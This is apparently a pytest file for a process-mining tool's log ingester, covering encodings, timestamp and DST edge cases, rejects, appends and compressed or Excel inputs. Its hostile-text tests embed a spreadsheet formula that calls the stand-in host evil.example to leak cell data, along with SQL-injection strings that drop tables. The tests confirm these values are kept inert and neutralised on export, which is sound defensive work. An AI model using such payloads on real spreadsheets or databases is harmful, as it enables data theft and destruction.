@@ -1,0 +1,762 @@
+"""Tiny hand-made bad and edge-case inputs, each with its exact expected outcome.
+
+Every file under ``tests/files/ingest/`` is a few lines a reader can open; the
+few that are binary (UTF-16, cp1252, NUL bytes, gzip, Parquet, Excel) are
+written here from exact bytes.  Each test loads one file into a fresh
+in-memory workspace and checks the whole outcome: the error class and its
+message (file, row, column), or the counts, the rejects, the quality findings
+and the stored values.  Row numbers are data rows: row 1 is the first line
+after the header.
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import datetime as dt
+import gzip
+import json
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import pytest
+
+from mining.catalog import export_rejects
+from mining.catalog import rejects as stored_rejects
+from mining.errors import (
+    AmbiguousMapping,
+    AppendMismatch,
+    BadTimestamp,
+    EmptyLog,
+    IngestError,
+    MissingColumn,
+    TooManyRejects,
+    UnsafeInput,
+)
+from mining.ingest import IngestOptions, ingest_file
+from mining.schema import IngestSummary
+from mining.store import Store
+
+FILES = Path(__file__).parent / "files" / "ingest"
+
+#: The tables every workspace has after a load (attrs_1 only when a column is unmapped).
+WORKSPACE_TABLES = {
+    "_migrations", "logs", "ingest_runs", "events", "cases", "variants", "attribute_columns", "rejects", "quality",
+}
+
+NOT_ISO = "does not match the column's timestamp format ISO 8601"
+
+
+# --------------------------------------------------------------------------- helpers
+
+
+@pytest.fixture
+def store():
+    s = Store()
+    yield s
+    s.close()
+
+
+def load(store: Store, file: str | Path, **options) -> IngestSummary:
+    path = file if isinstance(file, Path) else FILES / file
+    return ingest_file(store, path, IngestOptions(**options))
+
+
+def T(text: str) -> dt.datetime:
+    """A UTC instant written as 'YYYY-MM-DD HH:MM'."""
+    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)
+
+
+def counts(s: IngestSummary) -> tuple[int, int, int, int, int]:
+    return (s.cases, s.events, s.activities, s.variants, s.rejected_rows)
+
+
+def rejects_of(s: IngestSummary) -> list[tuple]:
+    return [(r.row, r.column, r.reason, r.value) for r in s.rejects]
+
+
+def quality_of(s: IngestSummary) -> dict[str, int]:
+    return {q.kind: q.count for q in s.quality}
+
+
+def events(store: Store) -> list[tuple]:
+    return store.query("SELECT row_no, case_id, activity, ts FROM events ORDER BY row_no").rows
+
+
+def timestamps(store: Store) -> list[tuple[int, dt.datetime]]:
+    return store.query("SELECT row_no, ts FROM events ORDER BY row_no").rows
+
+
+def attributes(store: Store, log_id: int = 1) -> tuple[list[str], list[tuple]]:
+    """The unmapped columns as (header names, rows by row_no)."""
+    names = [r[0] for r in store.query(
+        "SELECT source_name FROM attribute_columns WHERE log_id = ? ORDER BY position", [log_id]).rows]
+    rows = store.query(f'SELECT * FROM "attrs_{log_id}" ORDER BY row_no').rows
+    return names, rows
+
+
+def assert_workspace_empty(store: Store) -> None:
+    for table in ("logs", "ingest_runs", "events", "cases", "variants", "rejects", "quality", "attribute_columns"):
+        assert store.scalar(f"SELECT count(*) FROM {table}") == 0, table
+
+
+def table_names(store: Store) -> set[str]:
+    return {r[0] for r in store.query("SELECT table_name FROM information_schema.tables").rows}
+
+
+# --------------------------------------------------------------------------- files that must fail
+#
+# (file, options, error class, message fragments, hint fragment).  The
+# workspace must be untouched afterwards.
+
+FAILURES = [
+    pytest.param("empty.csv", {}, EmptyLog, ["empty.csv is empty"], "no header and no rows", id="empty"),
+    pytest.param("header_only.csv", {}, EmptyLog, ["header_only.csv has a header but no rows"], None,
+                 id="header-only"),
+    pytest.param(
+        "ambiguous_dates.csv", {}, BadTimestamp,
+        ["ambiguous_dates.csv: column 'timestamp' fits both %d/%m/%Y %H:%M and %m/%d/%Y %H:%M",
+         "no day above 12 proves which is the day and which the month"],
+        "--dayfirst", id="ambiguous-day-month",
+    ),
+    pytest.param("naive_local.csv", {"timezone": "Mars/Olympus"}, BadTimestamp,
+                 ["unknown time zone 'Mars/Olympus'", "IANA name"], None, id="unknown-timezone"),
+    pytest.param(
+        "role_override.csv", {"roles": {"case": "Tiket"}}, MissingColumn,
+        ["role_override.csv: no column 'Tiket' for --case; "
+         "available columns: 'case_id', 'Ticket', 'activity', 'timestamp'"],
+        None, id="role-missing-column",
+    ),
+    pytest.param("ambiguous_case.csv", {}, AmbiguousMapping,
+                 ["ambiguous_case.csv: the case could be any of 'order_id', 'ticket_id'"], "pass --case COLUMN",
+                 id="ambiguous-case"),
+    pytest.param(
+        "one_bad_in_ten.csv", {"max_rejects": 0.05}, TooManyRejects,
+        ["one_bad_in_ten.csv: 1 of 10 rows (10.0%) were rejected, more than the 5.0% allowed; nothing was loaded",
+         f"one_bad_in_ten.csv, row 6, column 'timestamp': {NOT_ISO} (value 'yesterday')"],
+        "--max-rejects", id="too-many-rejects",
+    ),
+    pytest.param("missing_values.csv", {}, TooManyRejects,
+                 ["missing_values.csv: 7 of 10 rows (70.0%) were rejected",
+                  "missing_values.csv, row 2, column 'case_id': missing case id"],
+                 "--max-rejects", id="missing-values-default-threshold"),
+]
+
+
+@pytest.mark.parametrize(("file", "options", "error", "fragments", "hint"), FAILURES)
+def test_bad_file_fails_cleanly(store, file, options, error, fragments, hint):
+    with pytest.raises(error) as info:
+        load(store, file, **options)
+    assert type(info.value) is error
+    message = str(info.value)
+    for fragment in fragments:
+        assert fragment in message
+    if hint is None:
+        assert info.value.hint is None
+    else:
+        assert hint in info.value.hint
+    assert_workspace_empty(store)
+
+
+def test_too_many_rejects_carries_every_reject(store):
+    with pytest.raises(TooManyRejects) as info:
+        load(store, "one_bad_in_ten.csv", max_rejects=0.05)
+    assert [(r.file, r.row, r.column, r.value) for r in info.value.rejects] == [
+        ("one_bad_in_ten.csv", 6, "timestamp", "yesterday")
+    ]
+
+
+# --------------------------------------------------------------------------- structure of the text
+
+
+def test_ragged_rows_rejected_with_their_row_numbers(store):
+    s = load(store, "ragged_rows.csv", max_rejects=0.5)
+    assert counts(s) == (3, 5, 3, 3, 2)
+    assert s.rows_read == 7
+    assert rejects_of(s) == [
+        (2, None, "ragged line: more fields than the header (expected: 3 found: 4)", "1,B,2024-01-01 11:00,extra"),
+        (4, None, "ragged line: fewer fields than the header (expected: 3 found: 2)", "2,B"),
+    ]
+    # Rows after a ragged one keep their place in the file.
+    assert events(store) == [
+        (1, "1", "A", T("2024-01-01 10:00")),
+        (3, "2", "A", T("2024-01-02 10:00")),
+        (5, "2", "C", T("2024-01-02 12:00")),
+        (6, "3", "A", T("2024-01-03 10:00")),
+        (7, "3", "B", T("2024-01-03 11:00")),
+    ]
+    # The workspace keeps the same rejects.
+    assert [(r.file, r.row, r.column) for r in stored_rejects(store, s.log_id)] == [
+        ("ragged_rows.csv", 2, None), ("ragged_rows.csv", 4, None)
+    ]
+    assert quality_of(s) == {}
+
+
+def test_quoted_newline_is_one_row(store):
+    s = load(store, "quoted_newline.csv")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.rows_read == 4
+    assert [r[:3] for r in events(store)] == [(1, "1", "A"), (2, "1", "B"), (3, "2", "A"), (4, "2", "B")]
+    names, rows = attributes(store)
+    assert names == ["comment"]
+    assert rows == [(1, "plain"), (2, "first line\nsecond line"), (3, 'say "hi"'), (4, None)]
+
+
+def test_unterminated_quote_is_named(store):
+    s = load(store, "unterminated_quote.csv", max_rejects=0.5)
+    # The open quote swallows the rest of the file into row 4.
+    assert counts(s) == (2, 3, 2, 2, 1)
+    assert s.rows_read == 4
+    assert rejects_of(s) == [
+        (4, None, "a quoted field is never closed (unterminated quote)",
+         '2,"B,2024-01-02 11:00\n3,A,2024-01-03 10:00\n3,B,2024-01-03 11:00\n'),
+    ]
+    assert [r[0] for r in events(store)] == [1, 2, 3]
+
+
+# --------------------------------------------------------------------------- timestamps
+
+
+def test_mixed_formats_reject_the_minority(store):
+    s = load(store, "mixed_date_formats.csv", max_rejects=0.2)
+    assert counts(s) == (3, 5, 2, 2, 1)
+    assert s.timestamp_formats == {"timestamp": "ISO 8601"}
+    assert rejects_of(s) == [(4, "timestamp", NOT_ISO, "02/01/2024 11:00")]
+    assert [r[0] for r in events(store)] == [1, 2, 3, 5, 6]
+
+
+@pytest.mark.parametrize(
+    ("dayfirst", "pattern", "expected", "variants"),
+    [
+        # Day-first, case 2 runs B (2 January) before A (1 February): two variants.
+        pytest.param(True, "%d/%m/%Y %H:%M", ["2024-04-03 10:00", "2024-04-05 11:00", "2024-02-01 09:00",
+                                               "2024-01-02 09:30"], 2, id="dayfirst"),
+        pytest.param(False, "%m/%d/%Y %H:%M", ["2024-03-04 10:00", "2024-05-04 11:00", "2024-01-02 09:00",
+                                                "2024-02-01 09:30"], 1, id="monthfirst"),
+    ],
+)
+def test_ambiguous_dates_read_as_told(store, dayfirst, pattern, expected, variants):
+    s = load(store, "ambiguous_dates.csv", dayfirst=dayfirst)
+    assert counts(s) == (2, 4, 2, variants, 0)
+    assert s.timestamp_formats == {"timestamp": pattern}
+    assert timestamps(store) == [(i, T(v)) for i, v in enumerate(expected, start=1)]
+
+
+def test_ambiguous_dates_read_with_timestamp_format(store):
+    # The BadTimestamp hint offers --timestamp-format: it must work without --timestamp.
+    s = load(store, "ambiguous_dates.csv", timestamp_format="%m/%d/%Y %H:%M")
+    assert s.mapping.timestamp == "timestamp"
+    assert s.timestamp_formats == {"timestamp": "%m/%d/%Y %H:%M"}
+    assert timestamps(store) == [
+        (1, T("2024-03-04 10:00")), (2, T("2024-05-04 11:00")), (3, T("2024-01-02 09:00")), (4, T("2024-02-01 09:30")),
+    ]
+
+
+def test_day_above_twelve_proves_dayfirst_for_every_row(store):
+    s = load(store, "dayfirst_proven.csv")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.timestamp_formats == {"timestamp": "%d/%m/%Y %H:%M"}
+    # 03/04/2024 is 3 April, like 13/04/2024 is 13 April.
+    assert timestamps(store) == [
+        (1, T("2024-04-03 10:00")), (2, T("2024-04-13 11:00")), (3, T("2024-02-01 09:00")), (4, T("2024-03-02 09:30")),
+    ]
+
+
+def test_user_timestamp_format(store):
+    s = load(store, "custom_format.csv", timestamp_format="%Y.%m.%d-%Hh%M")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.mapping.timestamp == "timestamp"
+    assert s.mapping.timestamp_format == "%Y.%m.%d-%Hh%M"
+    assert timestamps(store) == [
+        (1, T("2024-01-05 10:30")), (2, T("2024-01-05 11:45")), (3, T("2024-02-06 09:00")), (4, T("2024-02-07 17:15")),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("timezone", "naive_row"),
+    [pytest.param("UTC", "2024-06-01 12:00", id="utc"),
+     pytest.param("Europe/Berlin", "2024-06-01 10:00", id="berlin")],
+)
+def test_offsets_are_honoured(store, timezone, naive_row):
+    s = load(store, "offsets.csv", timezone=timezone)
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.timezone == timezone
+    assert timestamps(store) == [
+        (1, T("2024-06-01 08:00")),  # +02:00
+        (2, T("2024-06-01 16:00")),  # -0600
+        (3, T("2024-06-01 08:00")),  # Z
+        (4, T(naive_row)),           # no offset: read in the log's zone
+    ]
+
+
+def test_naive_times_in_a_named_zone(store):
+    s = load(store, "naive_local.csv", timezone="Europe/Berlin")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.timezone == "Europe/Berlin"
+    assert timestamps(store) == [
+        (1, T("2024-01-15 09:00")),  # CET, +01:00
+        (2, T("2024-07-15 08:00")),  # CEST, +02:00
+        (3, T("2024-01-16 08:00")),
+        (4, T("2024-07-16 07:00")),
+    ]
+
+
+DST_LOCAL = [
+    "2024-03-31 01:30", "2024-03-31 02:30", "2024-03-31 03:05",
+    "2024-10-27 01:30", "2024-10-27 02:30", "2024-10-27 03:05",
+    "2024-05-01 10:00", "2024-05-01 11:00", "2024-05-01 12:00",
+]
+
+
+def test_dst_gap_and_overlap_default_policy(store):
+    s = load(store, "dst_gap_overlap.csv", timezone="Europe/Berlin")
+    assert counts(s) == (3, 9, 3, 2, 0)
+    assert quality_of(s) == {"dst_gap": 1, "dst_overlap": 1}
+    expected = [
+        T("2024-03-31 00:30"),
+        T("2024-03-31 01:30"),  # 02:30 does not exist: read with +01:00, i.e. 03:30 summer time
+        T("2024-03-31 01:05"),
+        T("2024-10-26 23:30"),
+        T("2024-10-27 00:30"),  # 02:30 happens twice: the first, +02:00
+        T("2024-10-27 02:05"),
+        T("2024-05-01 08:00"), T("2024-05-01 09:00"), T("2024-05-01 10:00"),
+    ]
+    assert timestamps(store) == list(enumerate(expected, start=1))
+    # The docstring's contract: the same as zoneinfo with fold=0.
+    berlin = ZoneInfo("Europe/Berlin")
+    assert expected == [dt.datetime.fromisoformat(v).replace(tzinfo=berlin).astimezone(dt.UTC) for v in DST_LOCAL]
+
+
+def test_dst_gap_and_overlap_rejected(store):
+    s = load(store, "dst_gap_overlap.csv", timezone="Europe/Berlin", dst="reject", max_rejects=0.3)
+    assert counts(s) == (3, 7, 3, 2, 2)
+    assert rejects_of(s) == [
+        (2, "timestamp", "wall time does not exist in Europe/Berlin (DST gap)", "2024-03-31 02:30"),
+        (5, "timestamp", "wall time occurs twice in Europe/Berlin (DST overlap)", "2024-10-27 02:30"),
+    ]
+    assert quality_of(s) == {}
+    assert [r[0] for r in timestamps(store)] == [1, 3, 4, 6, 7, 8, 9]
+
+
+# --------------------------------------------------------------------------- encodings and dialects
+
+UMLAUT_ROWS = [
+    (1, "1", "Prüfung", T("2024-01-01 10:00")),
+    (2, "1", "Café", T("2024-01-01 11:00")),
+    (3, "2", "Prüfung", T("2024-01-02 10:00")),
+    (4, "2", "Café", T("2024-01-02 11:00")),
+]
+
+
+def test_utf8_with_bom(store):
+    assert (FILES / "utf8_bom.csv").read_bytes().startswith(codecs.BOM_UTF8)
+    s = load(store, "utf8_bom.csv")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.mapping.case == "case_id"  # not "\ufeffcase_id"
+    assert events(store) == UMLAUT_ROWS
+
+
+def test_utf16_le_with_bom_tab_separated(store, tmp_path):
+    text = "case_id\tactivity\ttimestamp\n1\tPrüfung\t2024-01-01 10:00\n1\tCafé\t2024-01-01 11:00\n" \
+           "2\tPrüfung\t2024-01-02 10:00\n2\tCafé\t2024-01-02 11:00\n"
+    path = tmp_path / "utf16.tsv"
+    path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
+    s = load(store, path)
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert (s.mapping.case, s.mapping.activity, s.mapping.timestamp) == ("case_id", "activity", "timestamp")
+    assert events(store) == UMLAUT_ROWS
+
+
+def test_utf16_without_bom_is_refused(store, tmp_path):
+    path = tmp_path / "utf16_nobom.tsv"
+    path.write_bytes("case_id\tactivity\ttimestamp\n1\tA\t2024-01-01 10:00\n".encode("utf-16-le"))
+    with pytest.raises(UnsafeInput, match=r"^utf16_nobom\.tsv: the header contains a NUL character$") as info:
+        load(store, path)
+    assert "UTF-16 without a BOM" in info.value.hint
+    assert_workspace_empty(store)
+
+
+def test_cp1252_semicolon_decimal_comma(store, tmp_path):
+    text = (
+        "case_id;activity;timestamp;cost;Größe\r\n"
+        "1;Prüfung;15.01.2024 10:00;1.234,56;5 €\r\n"
+        "1;Café;15.01.2024 11:30;12,5;naïve\r\n"
+        "2;Prüfung;16.01.2024 09:00;0,99;\r\n"
+        "2;Café;16.01.2024 17:45;7;Straße\r\n"
+    )
+    path = tmp_path / "cp1252.csv"
+    path.write_bytes(text.encode("cp1252"))
+    s = load(store, path)
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert s.mapping.cost == "cost"
+    assert s.timestamp_formats == {"timestamp": "%d.%m.%Y %H:%M"}
+    assert store.query("SELECT row_no, activity, ts, cost FROM events ORDER BY row_no").rows == [
+        (1, "Prüfung", T("2024-01-15 10:00"), 1234.56),
+        (2, "Café", T("2024-01-15 11:30"), 12.5),
+        (3, "Prüfung", T("2024-01-16 09:00"), 0.99),
+        (4, "Café", T("2024-01-16 17:45"), 7.0),
+    ]
+    assert attributes(store) == (["Größe"], [(1, "5 €"), (2, "naïve"), (3, None), (4, "Straße")])
+
+
+def test_excel_sep_line(store):
+    assert (FILES / "excel_sep_line.csv").read_text(encoding="utf-8").startswith("sep=;\n")
+    s = load(store, "excel_sep_line.csv")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert (s.mapping.case, s.mapping.activity, s.mapping.timestamp) == ("case_id", "activity", "timestamp")
+    assert events(store) == UMLAUT_ROWS
+
+
+# --------------------------------------------------------------------------- values
+
+
+def test_ids_stay_text(store):
+    s = load(store, "id_text.csv")
+    assert counts(s) == (3, 6, 2, 1, 0)
+    assert store.query("SELECT case_id FROM cases ORDER BY case_no").rows == [("00123",), ("1.23457E+15",), ("123",)]
+
+
+def test_missing_values_and_null_tokens(store):
+    s = load(store, "missing_values.csv", max_rejects=0.8)
+    assert counts(s) == (2, 3, 2, 2, 7)
+    assert rejects_of(s) == [
+        (2, "case_id", "missing case id", None),       # empty
+        (3, "activity", "missing activity", None),     # empty
+        (4, "timestamp", "missing timestamp", None),   # empty
+        (5, "case_id", "missing case id", None),       # NULL
+        (6, "activity", "missing activity", None),     # nan
+        (7, "timestamp", "missing timestamp", None),   # N/A
+        (8, "case_id", "missing case id", None),       # blanks
+    ]
+    assert store.query("SELECT row_no, case_id, activity, resource FROM events ORDER BY row_no").rows == [
+        (1, "1", "A", "ann"), (9, "2", "A", None), (10, "2", "B", None),
+    ]
+
+
+def test_control_characters_reject_the_row(store):
+    s = load(store, "control_chars.csv", max_rejects=0.5)
+    assert counts(s) == (2, 4, 2, 1, 2)
+    assert rejects_of(s) == [
+        (2, "activity", "control character in the row", None),  # BEL
+        (5, "note", "control character in the row", None),      # ESC
+    ]
+    assert [r[0] for r in events(store)] == [1, 3, 4, 6]
+
+
+def test_nul_in_a_cell_rejects_the_row(store, tmp_path):
+    path = tmp_path / "nul_cell.csv"
+    path.write_bytes(
+        b"case_id,activity,timestamp,note\n1,A,2024-01-01 10:00,ok\n1,B,2024-01-01 11:00,bad\x00cell\n"
+        b"2,A,2024-01-02 10:00,ok\n2,B,2024-01-02 11:00,ok\n2,C,2024-01-02 12:00,ok\n"
+    )
+    s = load(store, path, max_rejects=0.5)
+    assert counts(s) == (2, 4, 3, 2, 1)
+    assert rejects_of(s) == [(2, "note", "control character in the row", None)]
+    assert store.scalar("SELECT count(*) FROM events WHERE contains(activity, chr(0))") == 0
+
+
+def test_nul_in_a_header_is_refused(store, tmp_path):
+    path = tmp_path / "nul_header.csv"
+    path.write_bytes(b"case_id,activ\x00ity,timestamp\n1,A,2024-01-01 10:00\n1,B,2024-01-01 11:00\n")
+    with pytest.raises(UnsafeInput, match=r"^nul_header\.csv: the header contains a NUL character$"):
+        load(store, path)
+    assert_workspace_empty(store)
+
+
+def test_duplicates_and_ties_are_kept_and_counted(store):
+    s = load(store, "duplicates_ties.csv")
+    assert counts(s) == (2, 6, 3, 2, 0)
+    assert quality_of(s) == {"duplicate_events": 1, "timestamp_ties": 2}
+    # Tied events keep the file's order: C (row 4) before A (row 5).
+    assert store.query(
+        "SELECT row_no, activity, next_activity FROM events WHERE case_id = '2' ORDER BY row_no").rows == [
+        (4, "C", "A"), (5, "A", "B"), (6, "B", None)
+    ]
+    assert store.query("SELECT variant_id, activities FROM variants ORDER BY variant_id").rows == [
+        (1, ["A", "A", "B"]), (2, ["C", "A", "B"])
+    ]
+
+
+def test_sentinel_dates_are_counted(store):
+    s = load(store, "sentinel_dates.csv")
+    assert counts(s) == (3, 6, 2, 2, 0)
+    assert quality_of(s) == {"sentinel_dates": 2}
+    issue = next(q for q in s.quality if q.kind == "sentinel_dates")
+    assert issue.examples == ("case 1: 1970-01-01", "case 2: 9999-12-31")
+
+
+def test_complete_before_start_is_counted(store):
+    s = load(store, "complete_before_start.csv")
+    assert counts(s) == (3, 6, 2, 1, 0)
+    assert s.mapping.start_timestamp == "start_timestamp"
+    assert quality_of(s) == {"complete_before_start": 2}
+    issue = next(q for q in s.quality if q.kind == "complete_before_start")
+    assert issue.examples == ("case 1: B", "case 3: A")
+
+
+# --------------------------------------------------------------------------- hostile text
+
+
+def test_formula_cells_load_verbatim_and_export_neutralised(store, tmp_path):
+    s = load(store, "formula_injection.csv", max_rejects=0.5)
+    assert counts(s) == (3, 5, 4, 3, 2)
+    hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
+    assert [r[:3] for r in events(store)] == [
+        (1, "1", hyperlink), (2, "1", "B"), (3, "2", "@SUM(A1)"), (4, "2", "B"), (5, "3", "+1"),
+    ]
+    assert attributes(store) == (["note"], [(1, "+1"), (2, "-2"), (3, "=1+1"), (4, "plain"), (5, "@SUM(A1)")])
+    assert rejects_of(s) == [(6, "timestamp", NOT_ISO, "=NOW()"), (7, "timestamp", NOT_ISO, "@TODAY")]
+    out = tmp_path / "rejects.csv"
+    assert export_rejects(list(s.rejects), out) == 2
+    assert out.read_bytes().decode("utf-8") == (
+        "file,row,column,reason,value\r\n"
+        f"formula_injection.csv,6,timestamp,{NOT_ISO},'=NOW()\r\n"
+        f"formula_injection.csv,7,timestamp,{NOT_ISO},'@TODAY\r\n"
+    )
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert not any(c[:1] in {"=", "+", "-", "@"} for c in cells)
+
+
+def test_sql_like_header_and_cells_are_data(store):
+    s = load(store, "sql_injection.csv")
+    assert counts(s) == (2, 4, 3, 2, 0)
+    header = 'case_id" FROM ev; DROP TABLE logs; --'
+    assert s.mapping.case == "case_id"
+    assert [r[2] for r in events(store)] == ["A", "'); DROP TABLE events; --", "A", "B"]
+    assert attributes(store) == (
+        [header], [(1, "'); DROP TABLE events; --"), (2, "x"), (3, 'Robert"); DROP TABLE cases;--'), (4, "y")]
+    )
+    assert WORKSPACE_TABLES | {"attrs_1"} <= table_names(store)
+    assert store.scalar("SELECT count(*) FROM logs") == 1
+    assert store.scalar("SELECT count(*) FROM cases") == 2
+
+
+def test_duplicate_and_empty_headers_are_renamed(store):
+    s = load(store, "duplicate_headers.csv")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert quality_of(s) == {"renamed_columns": 3}
+    issue = next(q for q in s.quality if q.kind == "renamed_columns")
+    assert issue.message == (
+        "some headers were empty or repeated and were renamed: column 4 (empty header) -> 'column_4'; "
+        "column 6 'category' (repeated) -> 'category_2'; column 7 (empty header) -> 'column_7'"
+    )
+    names, rows = attributes(store)
+    assert names == ["column_4", "category", "category_2", "column_7"]
+    assert rows[0] == (1, "x1", "red", "big", "z1")
+
+
+# --------------------------------------------------------------------------- thresholds, reruns, appends
+
+
+def test_one_bad_row_in_ten_loads_under_a_higher_threshold(store):
+    s = load(store, "one_bad_in_ten.csv", max_rejects=0.2)
+    assert counts(s) == (5, 9, 2, 2, 1)
+    assert rejects_of(s) == [(6, "timestamp", NOT_ISO, "yesterday")]
+
+
+def test_same_file_twice_is_unchanged(store):
+    first = load(store, "tiny_log.csv")
+    assert first.status == "loaded"
+    second = load(store, "tiny_log.csv")
+    assert second.status == "unchanged"
+    assert counts(second) == counts(first) == (2, 4, 2, 1, 0)
+    assert second.events_added == 0
+    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1
+    assert store.scalar("SELECT count(*) FROM events") == 4
+
+
+def test_other_data_under_the_same_name_needs_append(store):
+    load(store, "append_export_1.csv", name="orders")
+    with pytest.raises(IngestError) as info:
+        load(store, "append_export_2.csv", name="orders")
+    assert type(info.value) is IngestError
+    assert str(info.value) == "a log named 'orders' already exists and was loaded from other data"
+    assert "--append" in info.value.hint
+    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1
+    assert store.scalar("SELECT count(*) FROM events") == 4
+
+
+def _event_multiset(store: Store) -> list[tuple]:
+    return store.query(
+        "SELECT case_id, activity, ts, resource FROM events ORDER BY case_id, ts, activity, resource").rows
+
+
+def test_append_adds_only_new_events(store):
+    first = load(store, "append_export_1.csv", name="orders")
+    assert counts(first) == (2, 4, 2, 2, 0)
+    s = load(store, "append_export_2.csv", name="orders", append=True)
+    assert s.status == "appended"
+    assert s.events_added == 3
+    assert counts(s) == (3, 7, 2, 2, 0)
+    # The new events keep their row in the second file (rows 5-11 of the log's runs).
+    assert store.query("SELECT row_no, run_id, case_id, activity FROM events WHERE run_id = 2 ORDER BY row_no").rows == [
+        (9, 2, "2", "B"), (10, 2, "3", "A"), (11, 2, "3", "B"),
+    ]
+    with Store() as union:
+        once = load(union, "append_export_2.csv", name="orders")
+        assert counts(once) == counts(s)
+        assert _event_multiset(union) == _event_multiset(store)
+        assert union.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows == \
+            store.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows
+    again = load(store, "append_export_2.csv", name="orders", append=True)
+    assert again.status == "unchanged"
+    assert store.scalar("SELECT count(*) FROM ingest_runs") == 2
+
+
+def test_append_missing_a_mapped_column(store):
+    load(store, "append_export_1.csv", name="orders")
+    with pytest.raises(AppendMismatch) as info:
+        load(store, "append_no_resource.csv", name="orders", append=True)
+    assert str(info.value) == (
+        "append_no_resource.csv: --append needs the columns the log was built from; missing ['resource']"
+    )
+    assert store.scalar("SELECT count(*) FROM ingest_runs") == 1
+    assert store.scalar("SELECT count(*) FROM events") == 4
+
+
+def test_append_without_a_log(store):
+    with pytest.raises(IngestError, match=r"^--append: there is no log named 'orders' to append to$"):
+        load(store, "append_export_1.csv", name="orders", append=True)
+    assert_workspace_empty(store)
+
+
+# --------------------------------------------------------------------------- roles
+
+
+def test_detected_case_column(store):
+    s = load(store, "role_override.csv")
+    assert s.mapping.case == "case_id"
+    assert counts(s) == (2, 6, 2, 2, 0)
+
+
+def test_role_override_picks_the_column(store):
+    s = load(store, "role_override.csv", roles={"case": "Ticket"})
+    assert s.mapping.case == "Ticket"
+    assert counts(s) == (3, 6, 2, 1, 0)
+    assert store.query("SELECT case_id FROM cases ORDER BY case_no").rows == [("T1",), ("T2",), ("T3",)]
+    # The column not used as case stays as an attribute.
+    assert attributes(store)[0] == ["case_id"]
+
+
+# --------------------------------------------------------------------------- other containers
+
+TINY_EVENTS = [
+    (1, "00123", "Prüfung", T("2024-01-01 10:00"), "ann"),
+    (2, "00123", "Café", T("2024-01-01 11:30"), "bob"),
+    (3, "123", "Prüfung", T("2024-01-02 09:15"), "ann"),
+    (4, "123", "Café", T("2024-01-02 10:00"), None),
+]
+TINY_ROWS = [
+    ("00123", "Prüfung", dt.datetime(2024, 1, 1, 10, 0), "ann"),
+    ("00123", "Café", dt.datetime(2024, 1, 1, 11, 30), "bob"),
+    ("123", "Prüfung", dt.datetime(2024, 1, 2, 9, 15), "ann"),
+    ("123", "Café", dt.datetime(2024, 1, 2, 10, 0), None),
+]
+
+
+def tiny_events(store: Store) -> list[tuple]:
+    return store.query("SELECT row_no, case_id, activity, ts, resource FROM events ORDER BY row_no").rows
+
+
+def test_tiny_log_csv(store):
+    s = load(store, "tiny_log.csv")
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert tiny_events(store) == TINY_EVENTS
+
+
+def test_tiny_log_gzip(store, tmp_path):
+    path = tmp_path / "tiny_log.csv.gz"
+    path.write_bytes(gzip.compress((FILES / "tiny_log.csv").read_bytes()))
+    s = load(store, path)
+    assert s.log == "tiny_log"
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert tiny_events(store) == TINY_EVENTS
+
+
+def test_gzip_bomb_is_refused(store, tmp_path, monkeypatch):
+    monkeypatch.setenv("MINING_MAX_DECOMPRESSED_BYTES", "100000")
+    path = tmp_path / "bomb.csv.gz"
+    path.write_bytes(gzip.compress(b"case_id,activity,timestamp\n" + b"1,A,2024-01-01 10:00\n" * 50_000))
+    with pytest.raises(UnsafeInput, match=r"^bomb\.csv\.gz: decompresses to more than 100,000 bytes"):
+        load(store, path)
+    assert_workspace_empty(store)
+
+
+def test_tiny_log_parquet(store, tmp_path):
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    table = pa.table({
+        "case_id": [r[0] for r in TINY_ROWS],
+        "activity": [r[1] for r in TINY_ROWS],
+        "timestamp": pa.array([r[2] for r in TINY_ROWS], pa.timestamp("us")),
+        "resource": [r[3] for r in TINY_ROWS],
+    })
+    path = tmp_path / "tiny_log.parquet"
+    pq.write_table(table, path)
+    s = load(store, path)
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert tiny_events(store) == TINY_EVENTS
+
+
+def test_tiny_log_xlsx(store, tmp_path):
+    import xlsxwriter
+
+    path = tmp_path / "tiny_log.xlsx"
+    workbook = xlsxwriter.Workbook(str(path))
+    sheet = workbook.add_worksheet("log")
+    when = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
+    for col, name in enumerate(("case_id", "activity", "timestamp", "resource")):
+        sheet.write_string(0, col, name)
+    for row, (case, activity, ts, resource) in enumerate(TINY_ROWS, start=1):
+        sheet.write_string(row, 0, case)
+        sheet.write_string(row, 1, activity)
+        sheet.write_datetime(row, 2, ts, when)
+        if resource is not None:
+            sheet.write_string(row, 3, resource)
+    workbook.close()
+    s = load(store, path)
+    assert counts(s) == (2, 4, 2, 1, 0)
+    assert tiny_events(store) == TINY_EVENTS
+
+
+# --------------------------------------------------------------------------- the command line
+
+
+def test_cli_bad_file_exits_1_without_traceback(tmp_path):
+    from click.testing import CliRunner
+
+    from mining.cli import cli
+
+    workspace = tmp_path / "ws.duckdb"
+    rejects_csv = tmp_path / "rejects.csv"
+    result = CliRunner().invoke(
+        cli, ["--workspace", str(workspace), "ingest", str(FILES / "one_bad_in_ten.csv"), "--rejects", str(rejects_csv)]
+    )
+    assert result.exit_code == 1
+    assert result.stdout == ""
